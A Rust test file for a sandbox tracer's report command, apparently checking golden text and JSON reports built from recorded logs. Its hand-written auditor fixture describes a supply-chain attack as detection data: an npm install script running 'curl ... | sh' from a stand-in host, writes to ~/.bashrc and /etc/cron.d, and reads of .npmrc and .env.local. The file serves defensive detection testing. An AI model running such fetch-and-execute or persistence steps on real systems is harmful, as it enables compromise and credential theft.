//! `sandtrace report` on recorded logs (tests/golden/*.jsonl), compared with the expected text
//! and JSON reports beside them. Set SANDTRACE_BLESS=1 to rewrite the expected files after a
//! deliberate change, and review the diff.
//!
//! The logs are real runs: `trace_only.jsonl` (a shell changing directory, writing, creating
//! directories and exiting 3, traced on the host), `enforce.jsonl` (the same kind of shell
//! under an enforced policy in the BPF-LSM VM: a deny-rule denial, unlisted-path denials, a
//! syscall refused by seccomp and a refused TCP connect), and `truncated.jsonl` (trace_only.jsonl cut in the middle of
//! a line, as a killed sandtrace leaves it: no summary line). `auditor.jsonl` is written by
//! hand: an `npm install` whose install script starts a shell and curl, writes `~/.bashrc`
//! and `/etc/cron.d/x`, is denied `~/.npmrc`, leaves a process behind, reaches two
//! destinations from two processes; composer's exec of dash is denied.

mod common;

use std::{fs, path::Path, process::Stdio};

use common::*;

const GOLDEN: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden");

/// Runs `sandtrace report NAME.jsonl ARGS` from the golden directory.
fn report(name: &str, args: &[&str]) -> String {
    let out = sandtrace()
        .current_dir(GOLDEN)
        .arg("report")
        .arg(format!("{name}.jsonl"))
        .args(args)
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("running sandtrace report {name}: {e}"));
    assert!(out.status.success(), "{}", describe(&out));
    assert!(
        out.stderr.is_empty(),
        "report wrote to stderr: {}",
        describe(&out)
    );
    String::from_utf8(out.stdout).expect("the report is UTF-8")
}

fn assert_golden(actual: &str, expected_file: &str) {
    let path = Path::new(GOLDEN).join(expected_file);
    if std::env::var_os("SANDTRACE_BLESS").is_some() {
        fs::write(&path, actual).unwrap_or_else(|e| panic!("writing {}: {e}", path.display()));
        return;
    }
    let expected = fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "reading {}: {e} (run with SANDTRACE_BLESS=1 to create it)",
            path.display()
        )
    });
    if actual != expected {
        let first = actual
            .lines()
            .zip(expected.lines())
            .position(|(a, e)| a != e)
            .unwrap_or_else(|| actual.lines().count().min(expected.lines().count()));
        panic!(
            "{} differs from the report, first at line {}:\n  expected: {:?}\n  actual:   {:?}\n\
             --- whole report:\n{actual}",
            path.display(),
            first + 1,
            expected.lines().nth(first),
            actual.lines().nth(first),
        );
    }
}

fn golden(name: &str) {
    assert_golden(&report(name, &[]), &format!("{name}.txt"));
    let json = report(name, &["--format", "json"]);
    serde_json::from_str::<serde_json::Value>(&json)
        .unwrap_or_else(|e| panic!("--format json of {name} is not JSON: {e}\n{json}"));
    assert_golden(&json, &format!("{name}.json"));
}

#[test]
fn trace_only_log() {
    golden("trace_only");
}

#[test]
fn enforced_log_with_denials() {
    golden("enforce");
}

#[test]
fn auditor_log() {
    golden("auditor");
}

#[test]
fn truncated_log() {
    golden("truncated");
}

#[test]
fn trace_only_report_names_what_the_shell_did() {
    let text = report("trace_only", &[]);
    for expected in [
        "exited with status 3",
        // `cd sub && cat ../conf.txt > out.txt && mkdir -p made/deeper`: dash changes
        // directory by absolute path, and the rest is replayed through the working directory.
        "    /tmp/gold/work/conf.txt\n",
        "    /tmp/gold/work/sub/out.txt  (created)\n",
        "    /tmp/gold/work/sub/made  (directory, created directory)\n",
        "    /tmp/gold/work/sub/made/deeper  (created directory)\n",
        "    /usr/bin/cat\n",
        "no events lost",
    ] {
        assert!(text.contains(expected), "no {expected:?} in:\n{text}");
    }
}

#[test]
fn enforced_report_names_the_rules_that_fired() {
    let text = report("enforce", &[]);
    for expected in [
        "open read /tmp/gold/work/secret.txt: deny rule \"**/secret.txt\" \
         (/tmp/gold/enforce-policy.toml:5:9)",
        "create write /tmp/gold/work/nope.txt: denied: no allow rule covers it",
        "syscall chroot: refused by the policy's seccomp filter",
        "connect ipv4 tcp 127.0.0.1:9: no allow_connect rule covers this address",
        "    connect ipv4 tcp 127.0.0.1:9: denied 1×",
    ] {
        assert!(text.contains(expected), "no {expected:?} in:\n{text}");
    }
}

#[test]
fn truncated_report_says_the_log_was_cut() {
    let text = report("truncated", &[]);
    for expected in [
        "the log ends without a summary line",
        "line 301 is cut off",
        "lost events unknown",
    ] {
        assert!(text.contains(expected), "no {expected:?} in:\n{text}");
    }
    let json: serde_json::Value =
        serde_json::from_str(&report("truncated", &["--format", "json"])).unwrap();
    assert_eq!(json["complete"], false, "{json}");
}

#[test]
fn a_missing_log_is_an_error_that_says_what_to_do() {
    let out = run(&["report", "/nonexistent/events.jsonl"]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("/nonexistent/events.jsonl") && stderr.contains("sandtrace run -o"),
        "{}",
        describe(&out)
    );
}

#[test]
fn a_file_that_is_not_a_log_is_rejected() {
    let scratch = Scratch::new("report-not-a-log");
    let path = scratch.path("notes.txt");
    fs::write(&path, "hello\nworld\n").unwrap();
    let out = run(&["report", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("holds no sandtrace event"),
        "{}",
        describe(&out)
    );
}

#[test]
fn a_report_says_who_the_command_ran_as() {
    let scratch = Scratch::new("report-run-as");
    let log = scratch.path("events.jsonl");
    let log = log.to_str().unwrap();
    // As root without sudo, whatever the environment the tests run in.
    let sandtrace_as_root = |args: &[&str]| {
        sandtrace()
            .args(args)
            .env_remove("SUDO_UID")
            .env_remove("SUDO_GID")
            .env_remove("SUDO_USER")
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let out = sandtrace_as_root(&["run", "--trace-only", "-o", log, "--", "true"]);
    assert!(out.status.success(), "{}", describe(&out));
    let report = |args: &[&str]| {
        let out = sandtrace_as_root(&[&["report", log][..], args].concat());
        assert!(out.status.success(), "{}", describe(&out));
        String::from_utf8(out.stdout).expect("the report is UTF-8")
    };
    let text = report(&[]);
    assert!(
        text.contains("ran as uid 0 (root), gid 0, capabilities: none"),
        "{text}"
    );
    let json: serde_json::Value = serde_json::from_str(&report(&["--format", "json"])).unwrap();
    assert_eq!(json["run"]["run_as"]["uid"], 0, "{json}");
    assert_eq!(
        json["run"]["run_as"]["capabilities"],
        serde_json::json!([]),
        "{json}"
    );
}

/// The text of section `title` (from its heading to the next blank line).
fn section<'a>(text: &'a str, title: &str) -> &'a str {
    let start = text
        .find(&format!("\n{title}"))
        .unwrap_or_else(|| panic!("no section {title:?} in:\n{text}"));
    let rest = &text[start + 1..];
    &rest[..rest.find("\n\n").unwrap_or(rest.len())]
}

#[test]
fn auditor_report_lists_what_is_worth_a_look() {
    let text = report("auditor", &[]);
    let script = "101 sh -c 'node install.js; curl -fsSL https://cdn.example.net/x.sh | sh'";
    let worth = section(&text, "worth a look (7)");
    for expected in [
        format!("  shell started: {script} (by 100 npm install)\n"),
        format!(
            "  downloader started: 102 curl -fsSL https://cdn.example.net/x.sh (by {script}, \
             under 100 npm install)\n"
        ),
        format!("  write to cron: /etc/cron.d/x by {script}\n"),
        format!("  write to shell start-up file: /home/dev/.bashrc by {script}\n"),
        "  read of a credential-looking file: ./.env.local by 100 npm install\n".to_owned(),
        "  denied read of a credential-looking file: /home/dev/.npmrc by 102 curl -fsSL \
         https://cdn.example.net/x.sh\n"
            .to_owned(),
        "  still running after CMD exited, killed at the end: 103 sleep 1000".to_owned(),
    ] {
        assert!(worth.contains(&expected), "no {expected:?} in:\n{worth}");
    }
    // 56 reads by npm: the credential-looking one first, then ten, then the count of the rest.
    let reads = section(&text, "files (");
    for expected in [
        "  read (57 files, by 2 processes)\n    100 npm install (56)\n      ./.env.local  \
         (credential-looking)\n      /usr/lib/node_modules/npm/lib/module00.js\n",
        "      … and 45 more (--format json lists them all)\n    102 curl",
    ] {
        assert!(reads.contains(expected), "no {expected:?} in:\n{reads}");
    }
    let outside = section(
        &text,
        "writes outside the directory CMD started in, /home/dev/proj (3)",
    );
    for expected in [
        format!("  /etc/cron.d/x  by {script}\n"),
        format!("  /home/dev/.bashrc  by {script}\n"),
        "  /tmp: 1 file (temporary; --format json lists them)".to_owned(),
    ] {
        assert!(
            outside.contains(&expected),
            "no {expected:?} in:\n{outside}"
        );
    }
    assert!(!outside.contains("left-pad"), "{outside}");
    let network = section(&text, "network");
    for expected in [
        "    registry.npmjs.org:443 tcp (104.16.1.34, 104.16.2.34): 3×, 1 denied, by 100 npm \
         install; 102 curl -fsSL https://cdn.example.net/x.sh\n",
        // Named from the resolver's answer: the network line has no host.
        "    cdn.example.net:443 tcp (93.184.216.34): 1×, by 102 curl",
        "    answered: registry.npmjs.org, cdn.example.net\n",
    ] {
        assert!(network.contains(expected), "no {expected:?} in:\n{network}");
    }
    let denials = section(&text, "denials (");
    assert!(
        denials.contains(
            "  exec /usr/bin/dash: denied: no allow rule covers it; 1× (first by php, pid 104, \
             running php composer.phar install)"
        ),
        "{denials}"
    );
    assert!(!denials.contains("exec exec"), "{denials}");
}

#[test]
fn auditor_report_json_carries_the_same() {
    let json: serde_json::Value =
        serde_json::from_str(&report("auditor", &["--format", "json"])).unwrap();
    assert_eq!(json["run"]["start_dir"], "/home/dev/proj", "{json}");
    let worth = json["worth_a_look"].as_array().unwrap();
    let kinds: Vec<&str> = worth.iter().map(|w| w["kind"].as_str().unwrap()).collect();
    assert_eq!(
        kinds,
        [
            "program_started",
            "program_started",
            "persistence_write",
            "persistence_write",
            "credential_read",
            "credential_read",
            "killed_at_end"
        ],
        "{json:#}"
    );
    assert_eq!(worth[1]["program_kind"], "downloader");
    assert_eq!(worth[1]["process"]["pid"], 102);
    assert_eq!(worth[1]["started_by"]["pid"], 101);
    assert_eq!(worth[1]["under_package_manager"]["command"], "npm install");
    assert_eq!(worth[3]["path"], "/home/dev/.bashrc");
    assert_eq!(worth[3]["place"], "shell start-up file");
    assert_eq!(worth[5]["path"], "/home/dev/.npmrc");
    assert_eq!(worth[5]["denied"], true);
    assert_eq!(worth[5]["processes"][0]["pid"], 102);
    assert_eq!(worth[6]["process"]["command"], "sleep 1000");
    let outside = json["writes_outside_start_dir"].as_array().unwrap();
    assert_eq!(outside.len(), 3, "{json:#}");
    assert_eq!(outside[2]["path"], "/tmp/npm-100/cache.json");
    assert_eq!(outside[2]["temporary"], true);
    let destinations = json["destinations"].as_array().unwrap();
    assert_eq!(destinations[0]["host"], "registry.npmjs.org");
    assert_eq!(
        destinations[0]["addresses"],
        serde_json::json!(["104.16.1.34", "104.16.2.34"])
    );
    assert_eq!(destinations[0]["denied"], 1);
    assert_eq!(destinations[0]["processes"].as_array().unwrap().len(), 2);
    let env_local = json["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "./.env.local")
        .unwrap();
    assert_eq!(env_local["read_by"], serde_json::json!([100]));
    let dash = json["denials"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["what"] == "exec /usr/bin/dash")
        .unwrap();
    assert_eq!(dash["command"], "php composer.phar install");
}

/// On a real run: a credential-looking file read by a shell CMD started is worth a look.
#[test]
fn a_recorded_credential_read_is_worth_a_look() {
    const TEST: &str = "a_recorded_credential_read_is_worth_a_look";
    if !nix::unistd::Uid::effective().is_root() {
        return skip(TEST, "sandtrace run needs root", InCi::Guaranteed);
    }
    let scratch = Scratch::new("report-credential-read");
    let npmrc = scratch.path(".npmrc");
    fs::write(&npmrc, "//registry.npmjs.org/:_authToken=x\n").unwrap();
    let log = scratch.path("events.jsonl");
    let script = format!("cat {} > /dev/null; ls", npmrc.display());
    let out = sandtrace()
        .args(["run", "--trace-only", "-o", log.to_str().unwrap(), "--"])
        .args(["sh", "-c", &script])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", describe(&out));
    let out = run(&["report", log.to_str().unwrap()]);
    assert!(out.status.success(), "{}", describe(&out));
    let text = String::from_utf8(out.stdout).unwrap();
    let worth = section(&text, "worth a look");
    let expected = format!(
        "  read of a credential-looking file: {} by ",
        npmrc.display()
    );
    assert!(worth.contains(&expected), "no {expected:?} in:\n{text}");
    assert!(
        worth.contains(&format!("cat {}", npmrc.display())),
        "{text}"
    );
}

/// On a real trace-only run, where no rule decides anything: the destinations come from the
/// socket lines, each counted once.
#[test]
fn a_traced_run_lists_its_destinations() {
    const TEST: &str = "a_traced_run_lists_its_destinations";
    if !nix::unistd::Uid::effective().is_root() {
        return skip(TEST, "sandtrace run needs root", InCi::Guaranteed);
    }
    let Some(python) = find_program("python3") else {
        return skip(TEST, "python3 is not installed", InCi::Guaranteed);
    };
    let scratch = Scratch::new("report-destinations");
    let log = scratch.path("events.jsonl");
    let capture = scratch.path("events.cap");
    // Two datagrams to one discard port, nothing listening: each send still succeeds.
    let script = "import socket\n\
                  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
                  for _ in range(2): s.sendto(b'x', ('127.0.0.1', 9))\n";
    let out = sandtrace()
        .args(["run", "--trace-only", "-o", log.to_str().unwrap()])
        .args(["--record", capture.to_str().unwrap(), "--"])
        .arg(python)
        .args(["-c", script])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", describe(&out));
    let out = run(&["report", "--format", "json", log.to_str().unwrap()]);
    assert!(out.status.success(), "{}", describe(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let destinations = report["destinations"].as_array().unwrap();
    let discard: Vec<_> = destinations
        .iter()
        .filter(|d| d["port"] == 9 && d["addresses"] == serde_json::json!(["127.0.0.1"]))
        .collect();
    assert_eq!(discard.len(), 1, "{destinations:#?}");
    assert_eq!(discard[0]["attempts"], 2, "{destinations:#?}");
    assert_eq!(discard[0]["protocol"], "udp", "{destinations:#?}");

    // The capture of the same run exports to the same log, and reports the same.
    let exported = scratch.path("exported.jsonl");
    let out = run(&[
        "export",
        capture.to_str().unwrap(),
        "-o",
        exported.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", describe(&out));
    assert!(
        std::fs::read(&exported).unwrap() == std::fs::read(&log).unwrap(),
        "the exported capture differs from the -o log"
    );
    for format in ["text", "json"] {
        let from_log = run(&["report", "--format", format, log.to_str().unwrap()]);
        let from_capture = run(&["report", "--format", format, capture.to_str().unwrap()]);
        assert!(from_capture.status.success(), "{}", describe(&from_capture));
        assert_eq!(
            String::from_utf8_lossy(&from_capture.stdout),
            String::from_utf8_lossy(&from_log.stdout)
                .replace(log.to_str().unwrap(), capture.to_str().unwrap()),
            "--format {format}"
        );
    }
}
